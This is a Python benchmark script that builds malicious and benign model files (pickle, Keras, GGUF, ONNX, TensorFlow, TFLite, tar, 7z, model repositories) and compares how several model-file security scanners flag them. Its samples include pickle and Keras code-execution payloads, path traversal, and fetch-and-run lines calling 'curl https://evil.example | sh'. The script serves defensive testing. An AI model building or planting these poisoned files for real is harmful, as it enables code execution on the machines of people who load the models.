"""Which scanner catches what, beyond pickles: Keras, GGUF templates, ONNX external data, TensorFlow
graphs, TFLite, .pt2, archives (tar, 7z) and model repositories — mlward beside modelscan, picklescan,
fickling and modelaudit, each run once per sample as a fresh process.

Run by hand from the repository root (never a test):

    python bench/formats.py [--work DIR] [--tools mlward modelscan ...] [--mlward "python -m mlward"]

Competitors live in their own virtualenvs under BENCH_ENV (default /work/benchenv; see the bench
harness README). Each sample is a malicious file and, where one exists, its legitimate look-alike;
the samples are built here with the same code as the tests (tests/scanners/*), so the attacks are
readable there. A tool "caught" a malicious sample when its exit code says it found issues (1 for
all five); on a benign sample exit 1 is a false alarm. Exit codes other than 0 and 1 (a tool gave
up or did not know the format) are shown as "error (code)", a Python traceback as "crash".
"""

from __future__ import annotations

import argparse
import io
import json
import os
import pickle
import shlex
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))  # the fixture builders in tests/
BENCH_ENV = Path(os.environ.get("BENCH_ENV", "/work/benchenv"))
ENV = {
    **os.environ,
    "PROMPTFOO_DISABLE_TELEMETRY": "1",
    "NO_ANALYTICS": "1",
    "HF_HUB_OFFLINE": "1",
    "NO_COLOR": "1",
    "TERM": "dumb",
}


class _Boom:
    def __reduce__(self) -> tuple[object, ...]:
        return (os.system, ("echo owned",))


# ------------------------------------------------------------------ samples


def _gguf(path: Path, template: str) -> Path:
    import gguf

    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_token_list(["a", "b"])
    writer.add_chat_template(template)
    writer.add_tensor("w", np.ones((8, 8), np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


def _onnx(folder: Path, location: str | None) -> Path:
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    folder.mkdir(parents=True, exist_ok=True)
    weight = numpy_helper.from_array(np.ones((4, 4), np.float32), "W")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "W"], ["y"])],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
        [weight],
    )
    path = folder / "model.onnx"
    onnx.save_model(
        helper.make_model(graph), str(path), save_as_external_data=True, location="w.bin", size_threshold=0
    )
    if location:
        model = onnx.load_model(str(path), load_external_data=False)
        for entry in model.graph.initializer[0].external_data:
            if entry.key == "location":
                entry.value = location
        onnx.save_model(model, str(path))
    return path


def _tar(path: Path, members: dict[str, bytes], mode: str = "w") -> Path:
    with tarfile.open(path, mode) as handle:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            handle.addfile(info, io.BytesIO(data))
    return path


def _7z(path: Path, members: dict[str, bytes]) -> Path:
    import py7zr

    with py7zr.SevenZipFile(path, "w") as handle:
        for name, data in members.items():
            handle.writestr(data, name)
    return path


def _torch(obj: object) -> bytes:
    import torch

    raw = io.BytesIO()
    torch.save(obj, raw)
    return raw.getvalue()


def _repo(folder: Path, auto_map: bool, code: str, lfs: bool = False) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    config: dict[str, object] = {"model_type": "tiny", "hidden_size": 8}
    if auto_map:
        config["auto_map"] = {"AutoModel": "modeling_tiny.TinyModel"}
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "modeling_tiny.py").write_text(code)
    if lfs:
        (folder / "model.safetensors").write_text(
            "version https://git-lfs.github.com/spec/v1\noid sha256:" + "ab" * 32 + "\nsize 123456\n"
        )
    return folder


def _keras(folder: Path) -> dict[str, Path]:
    """Real Keras files (torch backend, in a child process), plus a CVE-2025-1550-shaped config."""
    script = r"""
import sys, keras
out = sys.argv[1]
def base(extra=None):
    inp = keras.Input((4,))
    x = keras.layers.Dense(3)(inp)
    if extra is not None:
        x = extra(x)
    return keras.Model(inp, keras.layers.Dense(2)(x))
evil = lambda t: t if t is not None else __import__("os").system("id")
base().save(f"{out}/keras_clean.h5"); base().save(f"{out}/keras_clean.keras")
base(keras.layers.Lambda(evil)).save(f"{out}/keras_lambda.h5")
base(keras.layers.Lambda(evil)).save(f"{out}/keras_lambda.keras")
"""
    folder.mkdir(parents=True, exist_ok=True)
    subprocess.run(
        [sys.executable, "-c", script, str(folder)],
        check=True,
        capture_output=True,
        env={**ENV, "KERAS_BACKEND": "torch"},
        timeout=600,
    )
    evil = folder / "keras_cve_2025_1550.keras"
    with zipfile.ZipFile(folder / "keras_clean.keras") as old, zipfile.ZipFile(evil, "w") as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename == "config.json":
                config = json.loads(data)
                config["config"]["layers"][1]["config"]["kernel_initializer"] = {
                    "module": "builtins",
                    "class_name": "function",
                    "config": "exec",
                    "registered_name": "function",
                }
                data = json.dumps(config).encode()
            new.writestr(item, data)
    names = ("keras_lambda.h5", "keras_clean.h5", "keras_lambda.keras", "keras_clean.keras")
    return {**{name: folder / name for name in names}, "keras_cve_2025_1550.keras": evil}


def build(work: Path) -> list[tuple[str, str, Path]]:
    """(technique, "malicious"|"benign", path) for every sample."""
    from tests.scanners.test_chat_template import CHATML
    from tests.scanners.test_gguf import POC
    from tests.scanners.test_tensorflow import ORDINARY, function, graph, node, saved_model
    from tests.scanners.test_tflite import tflite

    work.mkdir(parents=True, exist_ok=True)
    evil_py = b"import os\nos.system('curl https://evil.example | sh')\n"
    samples: list[tuple[str, str, Path]] = []

    def add(technique: str, kind: str, path: Path) -> None:
        samples.append((technique, kind, path))

    keras = _keras(work / "keras")
    add("Keras Lambda (legacy .h5)", "malicious", keras["keras_lambda.h5"])
    add("Keras Lambda (legacy .h5)", "benign", keras["keras_clean.h5"])
    add("Keras Lambda (.keras v3)", "malicious", keras["keras_lambda.keras"])
    add("Keras foreign module (CVE-2025-1550)", "malicious", keras["keras_cve_2025_1550.keras"])
    add("Keras Lambda (.keras v3)", "benign", keras["keras_clean.keras"])
    add("GGUF chat template (CVE-2024-34359)", "malicious", _gguf(work / "template_poc.gguf", POC))
    add("GGUF chat template (CVE-2024-34359)", "benign", _gguf(work / "template_chatml.gguf", CHATML))
    add("ONNX external data traversal", "malicious", _onnx(work / "onnx_evil", "../../../../etc/passwd"))
    add("ONNX external data traversal", "benign", _onnx(work / "onnx_ok", None))
    nodes = [*ORDINARY, node("leak", "ReadFile", inputs=("x",))]
    (work / "tf_evil").mkdir(exist_ok=True)
    (work / "tf_ok").mkdir(exist_ok=True)
    (work / "tf_evil" / "saved_model.pb").write_bytes(
        saved_model(graph(ORDINARY, [function("serve", nodes)]))
    )
    (work / "tf_ok" / "saved_model.pb").write_bytes(
        saved_model(graph(ORDINARY, [function("serve", ORDINARY)]))
    )
    add("TensorFlow ReadFile op", "malicious", work / "tf_evil" / "saved_model.pb")
    add("TensorFlow ReadFile op", "benign", work / "tf_ok" / "saved_model.pb")
    (work / "evil.tflite").write_bytes(tflite([(3, ""), (32, "FlexWriteFile")]))
    (work / "ok.tflite").write_bytes(tflite([(3, ""), (9, "")]))
    add("TFLite Flex WriteFile", "malicious", work / "evil.tflite")
    add("TFLite Flex WriteFile", "benign", work / "ok.tflite")
    import torch

    evil_pt = _torch({"w": _Boom()})
    clean_pt = _torch({"w": torch.zeros(4)})
    add(
        "PyTorch model in 7z (nullifAI)",
        "malicious",
        _7z(work / "evil_model.7z", {"pytorch_model.bin": evil_pt}),
    )
    add(
        "PyTorch model in 7z (nullifAI)", "benign", _7z(work / "ok_model.7z", {"pytorch_model.bin": clean_pt})
    )
    add(
        "pickle in tar.gz",
        "malicious",
        _tar(work / "evil.tar.gz", {"m/optimizer.pkl": pickle.dumps(_Boom())}, "w:gz"),
    )
    add(
        "pickle in tar.gz",
        "benign",
        _tar(work / "ok.tar.gz", {"m/optimizer.pkl": pickle.dumps({"lr": 0.1})}, "w:gz"),
    )
    add(
        "tar path traversal",
        "malicious",
        _tar(work / "traversal.tar", {"../../.bashrc": b"curl evil | sh\n"}),
    )
    add("tar path traversal", "benign", _tar(work / "plain.tar", {"model/README.md": b"hi\n"}))
    add(
        "trust_remote_code repo with os.system",
        "malicious",
        _repo(work / "repo_evil", True, evil_py.decode()),
    )
    add(
        "trust_remote_code repo with os.system",
        "benign",
        _repo(work / "repo_ok", False, "import torch\n\ndef f(x):\n    return x\n"),
    )
    add("Git LFS pointer (not downloaded)", "malicious", _repo(work / "repo_lfs", False, "X = 1\n", lfs=True))
    return samples


# ------------------------------------------------------------------ tools


def tools(mlward: str) -> dict[str, Callable[[Path, Path], list[str]]]:
    def venv(name: str, exe: str) -> str:
        return str(BENCH_ENV / name / "bin" / exe)

    return {
        "mlward": lambda p, _w: [*shlex.split(mlward), "scan", str(p), "--format", "json"],
        "modelscan": lambda p, _w: [venv("modelscan", "modelscan"), "-p", str(p), "-r", "json"],
        "picklescan": lambda p, _w: [venv("picklescan", "picklescan"), "-p", str(p)],
        "fickling": lambda p, w: [
            venv("fickling", "fickling"),
            "--check-safety",
            "--json-output",
            str(w / "fickling.json"),
            str(p),
        ],
        "modelaudit": lambda p, _w: [
            venv("modelaudit", "modelaudit"),
            "scan",
            "--no-cache",
            "-f",
            "json",
            str(p),
        ],
    }


def run(argv: list[str], timeout: float) -> tuple[int | None, float]:
    """(exit code, seconds); a Python traceback counts as exit code -2 whatever the real code was."""
    with tempfile.TemporaryDirectory() as scratch:
        start = time.perf_counter()
        try:
            proc = subprocess.run(
                argv,
                stdin=subprocess.DEVNULL,
                capture_output=True,
                cwd=scratch,
                env=ENV,
                timeout=timeout,
                check=False,
            )
        except subprocess.TimeoutExpired:
            return None, time.perf_counter() - start
        except OSError:
            return -1, 0.0
        took = time.perf_counter() - start
        if b"Traceback (most recent call last)" in proc.stderr + proc.stdout:
            return -2, took
        return proc.returncode, took


def verdict(kind: str, rc: int | None) -> str:
    if rc is None:
        return "timeout"
    if rc == -2:
        return "crash"
    if rc not in (0, 1):
        return f"error ({rc})"
    if kind == "malicious":
        return "caught" if rc == 1 else "MISSED"
    return "clean" if rc == 0 else "FALSE ALARM"


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--work", type=Path, default=ROOT / "bench" / "data" / "formats")
    parser.add_argument("--tools", nargs="*", default=None)
    parser.add_argument("--mlward", default=f"{sys.executable} -m mlward")
    parser.add_argument("--timeout", type=float, default=300)
    args = parser.parse_args()
    samples = build(args.work)
    table = tools(args.mlward)
    names = [n for n in table if args.tools is None or n in args.tools]
    caught = dict.fromkeys(names, 0)
    alarms = dict.fromkeys(names, 0)
    seconds = dict.fromkeys(names, 0.0)
    print("| technique | sample | " + " | ".join(names) + " |")
    print("|---|---|" + "---|" * len(names))
    for technique, kind, path in samples:
        cells = []
        for name in names:
            with tempfile.TemporaryDirectory() as work:
                rc, took = run(table[name](path, Path(work)), args.timeout)
            result = verdict(kind, rc)
            caught[name] += result == "caught"
            alarms[name] += result == "FALSE ALARM"
            seconds[name] += took
            cells.append(f"{result} {took:.1f}s")
        print(f"| {technique} | {kind}: `{path.relative_to(args.work)}` | " + " | ".join(cells) + " |")
    bad = sum(1 for _, kind, _ in samples if kind == "malicious")
    good = len(samples) - bad
    print()
    print("| tool | malicious caught | false alarms on benign | total seconds |")
    print("|---|---|---|---|")
    for name in names:
        print(f"| {name} | {caught[name]}/{bad} | {alarms[name]}/{good} | {seconds[name]:.1f} |")
    return 0


if __name__ == "__main__":
    sys.exit(main())
